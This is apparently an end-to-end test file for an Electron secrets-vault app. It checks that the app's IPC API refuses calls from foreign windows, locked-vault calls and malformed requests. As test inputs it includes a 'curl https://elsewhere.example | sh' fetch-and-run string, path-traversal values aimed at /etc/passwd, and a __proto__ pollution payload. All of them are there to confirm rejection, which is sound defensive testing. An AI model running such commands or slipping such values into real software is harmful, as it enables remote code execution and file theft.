import { join } from 'node:path';
import type {} from '../../preload/index.ts';
import { expect, test } from '../e2e/fixtures.ts';
import { inMain } from '../support/in-main.ts';

const preload = join(import.meta.dirname, '..', '..', 'out', 'preload', 'index.cjs');

/** Asks for the vault's state over the raw channel from a window that an attacker has got hold of. */
interface Attack {
  url: string;
  channel: string;
  request?: unknown;
}

const vaultStatus = 'keyhold:call:vault.status';

test('a window of another origin gets no API', async ({ sharedApp: app }) => {
  const hasApi = await inMain(
    app.electron,
    async ({ BrowserWindow }, preloadFile) => {
      const window = new BrowserWindow({
        show: false,
        webPreferences: { preload: preloadFile, sandbox: true },
      });
      await window.loadURL('about:blank');
      const result: unknown = await window.webContents.executeJavaScript('"keyhold" in window');
      window.destroy();
      return result;
    },
    preload,
  );
  expect(hasApi).toBe(false);
});

test('a call from any other window is refused, whatever its page', async ({ sharedApp: app }) => {
  const attacks: Attack[] = [
    { url: 'about:blank', channel: vaultStatus },
    // Even our own page, when it is not in the window that main opened.
    { url: 'app://keyhold/', channel: vaultStatus },
    { url: 'about:blank', channel: 'keyhold:call:vault.unlock', request: { passphrase: 'x'.repeat(12) } },
  ];
  const answers = await inMain(
    app.electron,
    async ({ BrowserWindow }, list) => {
      const results: unknown[] = [];
      for (const { url, channel, request } of list) {
        const window = new BrowserWindow({
          show: false,
          webPreferences: { nodeIntegration: true, contextIsolation: false, sandbox: false },
        });
        await window.loadURL(url);
        const script = `require('electron').ipcRenderer.invoke(${JSON.stringify(channel)}, ${JSON.stringify(request)})`;
        results.push(await window.webContents.executeJavaScript(script));
        window.destroy();
      }
      return results;
    },
    attacks,
  );
  for (const answer of answers) expect(answer).toEqual({ ok: false, error: { code: 'forbidden_sender' } });
});

test('a frame inside our own window is refused', async ({ sharedApp: app }) => {
  const answer = await inMain(app.electron, async ({ BrowserWindow, ipcMain }) => {
    const window = BrowserWindow.getAllWindows()[0];
    if (window === undefined) throw new Error('no window');
    // A frame cannot be loaded into the page, so its event is made from the real one with another frame.
    type Listener = (event: object, request?: unknown) => Promise<unknown>;
    const handlers = (ipcMain as unknown as { _invokeHandlers: Map<string, Listener> })._invokeHandlers;
    const handler = handlers.get('keyhold:call:vault.status');
    if (handler === undefined) throw new Error('no handler');
    const mainFrame = window.webContents.mainFrame;
    const subFrame = Object.create(mainFrame, { url: { value: 'app://keyhold/' } }) as object;
    return [
      await handler({ sender: window.webContents, senderFrame: subFrame }),
      await handler({ sender: window.webContents, senderFrame: null }),
    ];
  });
  const refused = { ok: false, error: { code: 'forbidden_sender' } };
  expect(answer).toEqual([refused, refused]);
});

test('requests that the contract does not describe are refused by the name of the field', async ({
  sharedApp: app,
}) => {
  const answers = await app.window.evaluate(async () => {
    const api = window.keyhold as unknown as Record<
      string,
      Record<string, (request?: unknown) => Promise<unknown>>
    >;
    return {
      extra: await api['vault']?.['unlock']?.({ passphrase: 'x', admin: true }),
      missing: await api['vault']?.['unlock']?.({}),
      type: await api['vault']?.['unlock']?.({ passphrase: 42 }),
      long: await api['vault']?.['unlock']?.({ passphrase: 'x'.repeat(100_000) }),
      unasked: await api['vault']?.['status']?.({ anything: 1 }),
      prototype: await api['vault']?.['unlock']?.(JSON.parse('{"passphrase":"x","__proto__":{"a":1}}')),
      id: await api['keys']?.['list']?.({ contextId: '../../etc/passwd' }),
      token: await api['tokens']?.['inspect']?.({ token: 'x'.repeat(16 * 1024 + 1) }),
      look: await api['contexts']?.['edit']?.({
        contextId: '00000000-0000-4000-8000-000000000000',
        name: 'x',
        colour: 'red',
        label: 'longer than 20 characters',
      }),
      age: await api['keys']?.['setAge']?.({ keyId: '00000000-0000-4000-8000-000000000000', age: 31 }),
      path: await api['keys']?.['import']?.({
        contextId: '00000000-0000-4000-8000-000000000000',
        label: 'x',
        age: null,
        passphrase: null,
        pick: null,
        source: { from: 'file', fileToken: '/etc/passwd' },
      }),
      bot: await api['bots']?.['create']?.({
        contextId: '00000000-0000-4000-8000-000000000000',
        org: 'acme',
        name: '../keys',
      }),
      repository: await api['grants']?.['list']?.({
        contextId: '00000000-0000-4000-8000-000000000000',
        repository: 'acme/web/../../keys',
      }),
      tag: await api['images']?.['image']?.({
        contextId: '00000000-0000-4000-8000-000000000000',
        repository: 'acme/web',
        tag: '../../blobs/uploads/',
      }),
      digest: await api['images']?.['copyDigest']?.({ digest: 'curl https://elsewhere.example | sh' }),
      range: await api['settings']?.['change']?.({ clipboardSeconds: 301 }),
      reason: await api['vault']?.['lock']?.({ by: 'idle' }),
    };
  });
  const refusal = (field?: string): unknown => ({
    ok: false,
    error:
      field === undefined ? { code: 'invalid_request' } : { code: 'invalid_request', details: { field } },
  });
  expect(answers).toEqual({
    extra: refusal(),
    missing: refusal('passphrase'),
    type: refusal('passphrase'),
    long: refusal('passphrase'),
    unasked: refusal(),
    prototype: expect.objectContaining({ ok: false }) as unknown,
    id: refusal('contextId'),
    token: refusal('token'),
    look: refusal('label'),
    age: refusal('age'),
    path: refusal('source.fileToken'),
    bot: refusal('name'),
    repository: refusal('repository'),
    tag: refusal('tag'),
    digest: refusal('digest'),
    range: refusal('clipboardSeconds'),
    reason: refusal('by'),
  });
});

// Which calls need the unlocked vault, and that each of them is refused, stands in test/unit/main/ipc/needs.test.ts.
test('while the vault is locked a call that needs it is refused', async ({ sharedApp: app }) => {
  const codes = await app.window.evaluate(async () => {
    const contextId = '00000000-0000-4000-8000-000000000000';
    const api = window.keyhold;
    const answers = [
      await api.contexts.list(),
      await api.keys.publicText({ keyId: contextId, format: 'pem' }),
      await api.signOut.run({ contextId: null }),
      await api.slots.makeRecoveryCode({ passphrase: 'x' }),
      await api.tokens.mint({ contextId, ttl: '1h' }),
      await api.settings.change({ autoLockMinutes: null }),
      await api.grants.list({ contextId, repository: 'acme/web' }),
      await api.backup.save({ passphrase: 'plum anchor velvet lantern' }),
    ];
    return answers.map((answer) => (answer.ok ? 'answered' : answer.error.code));
  });
  expect(new Set(codes)).toEqual(new Set(['vault_locked']));
});

test('a vault that is in order cannot be set aside, replaced by a copy or looked into through its copies', async ({
  sharedApp: app,
}) => {
  const answers = await app.window.evaluate(async () => {
    const api = window.keyhold.rescue;
    return [
      await api.copies(),
      await api.useCopy({ copy: 'vault-2026-11-24.db' }),
      await api.useCopy({ copy: '../vault-2026-11-24.db' }),
      await api.setAside(),
    ];
  });
  const unneeded = { ok: false, error: { code: 'rescue_not_needed' } };
  const refused = { ok: false, error: { code: 'invalid_request', details: { field: 'copy' } } };
  expect(answers).toEqual([{ ok: true, value: [] }, unneeded, refused, unneeded]);
});

test('the API is the contract and nothing else', async ({ sharedApp: app }) => {
  const groups = await app.window.evaluate(() => Object.keys(window.keyhold).sort());
  expect(groups).toEqual([
    'access',
    'accessFiles',
    'accessRequests',
    'accessReview',
    'accessTemplates',
    'accounts',
    'activity',
    'apiKeys',
    'apiTokens',
    'app',
    'approvals',
    'audit',
    'backup',
    'bots',
    'browserSignIn',
    'contexts',
    'directory',
    'doctor',
    'grants',
    'groups',
    'images',
    'invitations',
    'keys',
    'links',
    'members',
    'on',
    'orgs',
    'passwordSignIn',
    'permissions',
    'projects',
    'prompt',
    'registries',
    'remoteKeys',
    'rescue',
    'rules',
    'settings',
    'signOut',
    'signin',
    'slots',
    'tokenSignIn',
    'tokens',
    'toldSecrets',
    'unrevoked',
    'users',
    'vault',
  ]);
});

test('a script cannot fill the screen with dialogs, nor the browser with pages', async ({ maya: app }) => {
  await inMain(app.electron, ({ dialog }) => {
    const shown = ((globalThis as { shownDialogs?: string[] }).shownDialogs ??= []);
    const show = (what: string) => () => {
      shown.push(what);
      // Open until all calls have been made.
      return new Promise((resolve) => {
        setTimeout(() => {
          resolve({ canceled: true, filePath: '', filePaths: [] });
        }, 1000);
      });
    };
    Object.assign(dialog, { showOpenDialog: show('open'), showSaveDialog: show('save') });
  });
  const before = app.home.openedLinks().length;
  const answers = await app.window.evaluate(async () => {
    const contexts = await window.keyhold.contexts.list();
    const contextId = contexts.ok ? (contexts.value[0]?.id ?? '') : '';
    const calls = Array.from({ length: 30 }, () => [
      window.keyhold.keys.chooseFile(),
      window.keyhold.backup.choose(),
      window.keyhold.activity.export({ format: 'csv', kinds: null, text: '' }),
      window.keyhold.contexts.openDashboard({ contextId }),
    ]);
    return (await Promise.all(calls.flat())).map((answer) => (answer.ok ? 'ok' : answer.error.code));
  });
  expect(new Set(answers)).toEqual(new Set(['ok']));
  expect(
    await inMain(app.electron, () => (globalThis as { shownDialogs?: string[] }).shownDialogs),
  ).toHaveLength(1);
  await expect.poll(() => app.home.openedLinks().length).toBe(before + 1);
});
